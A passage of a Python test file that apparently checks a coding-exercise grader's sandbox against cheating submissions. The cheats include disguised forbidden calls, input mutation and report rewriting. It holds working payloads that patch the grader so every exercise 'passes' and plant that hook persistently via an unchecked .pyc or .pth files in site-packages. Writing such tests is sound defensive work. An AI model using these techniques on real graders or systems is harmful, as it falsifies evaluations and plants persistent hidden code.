        "def _inverse(H):\n    import operator\n"
        "    return operator.attrgetter('linalg.inv')(np)(H)\n"),
    "the private module np.linalg._linalg": (
        "def _inverse(H):\n    return np.linalg._linalg.inv(H)\n"),
    "the gufunc behind it": (
        "def _inverse(H):\n    return np.linalg._umath_linalg.inv(H, signature='d->d')\n"),
    "a computed name, the worker's report rewritten": (
        STRIP_REPORT + "\n\ndef _inverse(H):\n    return getattr(np.linalg, 'in' + 'v')(H)\n"),
}


def test_newton_hostiles_are_right_but_for_the_forbidden_call(scene):
    """Control: the same body with an explicit inverse that is allowed (solve against
    the identity, which is what np.linalg.inv computes) passes."""
    scene.write("optimization", "def _inverse(H):\n    return np.linalg.solve(H, np.eye(len(H)))\n",
                newton_step=NEWTON)
    run = scene.grade("newton_step", "softmax", jail=True)
    assert run.status == 0, run.out


@modes(BOTH)
@pytest.mark.parametrize("case", INVERSES, ids=list(INVERSES))
def test_forbidden_function_under_another_name(case, jail, scene):
    scene.write("optimization", INVERSES[case], newton_step=NEWTON)
    run = scene.grade("newton_step", "softmax", jail=jail)
    check(scene, run, ["optimization.newton_step"], OPT, module_level="_cover()" in INVERSES[case])


MUTATES = '''
def mse_grad(X, y, w):
    gradient = (2.0 / X.shape[0]) * (X.T @ (X @ w - y))
    y[...] = 0.0  # the caller's targets are gone
    return gradient
'''


@pytest.mark.parametrize("cover", [False, True], ids=["control", "report rewritten"])
@modes(BOTH)
def test_inputs_mutated_in_place(cover, jail, scene):
    """Without the cover, the mutation is caught; with the worker's report rewritten
    from the learner's module, it must still be."""
    scene.write("optimization", STRIP_REPORT if cover else "", mse_grad=MUTATES)
    run = scene.grade("mse_grad", "softmax", jail=jail)
    check(scene, run, MSE, OPT, module_level=cover)
    mse = next(t for t in run.results["tests"] if t["name"] == "optimization.mse_grad")
    assert "changed its input `y` in place" in mse["output"], mse["output"]


# --- poisoning the next run ---------------------------------------------------------------


def _nox_boot() -> str:
    """How nox starts the grader (noxfile.py's BOOT), read without importing nox."""
    tree = ast.parse((ROOT / "noxfile.py").read_text())
    for node in tree.body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "BOOT":
            return ast.literal_eval(node.value)
    raise LookupError("noxfile.py has no BOOT")


def _link_or_copy(source: str, target: str) -> None:
    try:
        os.link(source, target)  # NumPy's files are only read: links are enough, and fast
    except OSError:
        shutil.copy2(source, target)


@dataclass
class GradingCopy:
    """A copy of the repository and a grading environment like nox's .nox/kata (a venv
    holding NumPy), made for one test: what a poisoning module writes to."""

    repo: Path
    python: Path
    site: Path
    user_home: Path
    witness: Path  # the poison's hook creates it whenever it runs

    def nox_start(self, tmp: Path) -> tuple[str, ...]:
        prefix = tmp / "pycache"
        return ("-I", "-S", "-X", f"pycache_prefix={prefix}", "-c", _nox_boot(),
                str(self.repo), str(self.site))


@pytest.fixture
def grading_copy(scene):
    repo = scene.tmp / "repo"
    shutil.copytree(ROOT, repo, ignore=shutil.ignore_patterns(
        ".git", ".nox", ".kata", "__pycache__", "results*.json"))
    env = scene.tmp / "kata-env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    python = env / "bin" / "python"
    site = Path(subprocess.check_output(
        [python, "-I", "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        text=True).strip())
    numpy_site = Path(np.__file__).resolve().parent.parent
    for name in ("numpy", "numpy.libs"):
        if (numpy_site / name).is_dir():
            shutil.copytree(numpy_site / name, site / name, copy_function=_link_or_copy)
    copy = GradingCopy(repo, python, site, scene.tmp / "user-home",
                       scene.tmp / f"witness-{scene.marker}")
    copy.user_home.mkdir()
    scene.repo = repo
    scene.values.update(REPO=str(repo), SITE=str(site), USER_HOME=str(copy.user_home),
                        WITNESS=str(copy.witness))
    return copy


# Run in the grading process, it makes every exercise pass.
HOOK = '''
import sys
open(__WITNESS__, "a").close()


class _Pass:
    def find_spec(self, name, path=None, target=None):
        if name != "graders.engine":
            return None
        sys.meta_path.remove(self)
        import importlib.util
        spec = importlib.util.find_spec(name)
        load = spec.loader.exec_module

        def exec_module(module):
            load(module)
            real = module.grade

            def grade(ex, *args, **kwargs):
                result = real(ex, *args, **kwargs)
                result.outcome, result.feedback = "passed", []
                return result

            module.grade = grade

        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, _Pass())
'''

PYC_PATCH = '''

open(__WITNESS__, "a").close()
_real_grade = grade


def grade(ex, *args, **kwargs):
    result = _real_grade(ex, *args, **kwargs)
    result.outcome, result.feedback = "passed", []
    return result
'''

POISON = {
    "an unchecked .pyc in graders/__pycache__": ('''
def mse_grad(X, y, w):
    import os
    import py_compile
    import sys
    import tempfile
    try:
        engine = os.path.join(__REPO__, "graders", "engine.py")
        with open(engine) as f:
            source = f.read() + __PATCH__
        staged = os.path.join(tempfile.gettempdir(), "engine.py")
        with open(staged, "w") as f:
            f.write(source)
        cache = os.path.join(__REPO__, "graders", "__pycache__")
        os.makedirs(cache, exist_ok=True)
        py_compile.compile(
            staged, cfile=os.path.join(cache, f"engine.{sys.implementation.cache_tag}.pyc"),
            dfile=engine, doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    except (OSError, py_compile.PyCompileError):
        pass
    return np.zeros(len(w))
''', lambda c: c.repo / "graders" / "__pycache__" / (
        f"engine.{sys.implementation.cache_tag}.pyc")),
    "a .pth hook in the grading environment": ('''
def mse_grad(X, y, w):
    import os
    try:
        with open(os.path.join(__SITE__, "kata-hook.pth"), "w") as f:
            f.write(__PTH__)
    except OSError:
        pass
    return np.zeros(len(w))
''', lambda c: c.site / "kata-hook.pth"),
    "a .pth hook in the user's site-packages": ('''
def mse_grad(X, y, w):
    import os
    import sys
    folder = os.path.join(__USER_HOME__, ".local", "lib",
                          f"python{sys.version_info[0]}.{sys.version_info[1]}",
                          "site-packages")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "kata-hook.pth"), "w") as f:
            f.write(__PTH__)
    except OSError:
        pass
    return np.zeros(len(w))
''', lambda c: c.user_home / ".local" / "lib" / (
        f"python{sys.version_info[0]}.{sys.version_info[1]}") / "site-packages" / "kata-hook.pth"),
}

# (poison, first run in the jail, how the next run starts). A bare `python -m graders`
# after a run without the jail stays open: a .pth hook or a planted .pyc runs before any
# code of the grader's does, so only an isolated start (nox's, the gradebook's) holds.
POISON_RUNS = [
    *[(p, True, "nox") for p in POISON],
    *[(p, True, "python -m graders") for p in POISON],
    *[(p, False, "nox") for p in POISON],
]


@pytest.mark.parametrize(("case", "jail", "entry"), POISON_RUNS, ids=[
    f"{p}-{_ids(j)}-then {e}" for p, j, e in POISON_RUNS])
def test_poisoning_the_next_run(case, jail, entry, scene, grading_copy):
    """A first run plants a hook; a later run of the bare stubs must still score 0.

    In the jail the hook cannot even be written. Without it, it can (the learner is the
    grader's user), so the next run must never load it: started as nox starts it (-I -S,
    a fresh pycache prefix), or as README tells instructors (python -m graders).
    """
    copy = grading_copy
    body, planted = POISON[case]
    # A venv ignores user site-packages; the interpreter behind it does not.
    later = copy.python if "user" not in case else Path(os.path.realpath(copy.python))
    hook = scene.fill(HOOK)
    scene.values["PTH"] = f"import sys; exec(bytes.fromhex({hook.encode().hex()!r}).decode())\n"
    scene.values["PATCH"] = scene.fill(PYC_PATCH)
    scene.write("optimization", mse_grad=body)
    start = copy.nox_start(scene.tmp)
    run = scene.grade("mse_grad", "softmax", jail=jail, python=str(copy.python), start=start)
    check(scene, run, MSE, OPT)
    poison = planted(copy)
    if jail:
        assert not poison.exists(), f"the jailed module wrote {poison}"
    else:  # it could write: show the poison is live where nothing guards against it
        assert poison.exists(), f"the poison was not planted at {poison}"
        subprocess.run([later, "-c", "import graders.engine" if "pyc" in case else "pass"],
                       cwd=copy.repo, env={**os.environ, "HOME": str(copy.user_home)},
                       capture_output=True)
        assert copy.witness.exists(), "control: the planted hook did not run in a plain start"
        copy.witness.unlink()
    stubs = scene.grade("mse_grad", "softmax", jail=True, python=str(later),
                        solutions=copy.repo / "exercises",
                        start=start if entry == "nox" else ("-m",),
                        env={"HOME": str(copy.user_home), "PYTHONPATH": str(copy.site)})
    hooked = copy.witness.exists()
    outcomes = {t["name"]: t["extra_data"]["outcome"] for t in (stubs.results or {}).get(
        "tests", [])}
    assert not hooked, f"the hook ran in the next run ({entry})"
    assert stubs.results, f"no results from the next run: {stubs.out[-800:]}"
    assert stubs.results["score"] == 0, f"the bare stubs scored: {outcomes}"
    assert set(outcomes.values()) == {"not_attempted"}, outcomes
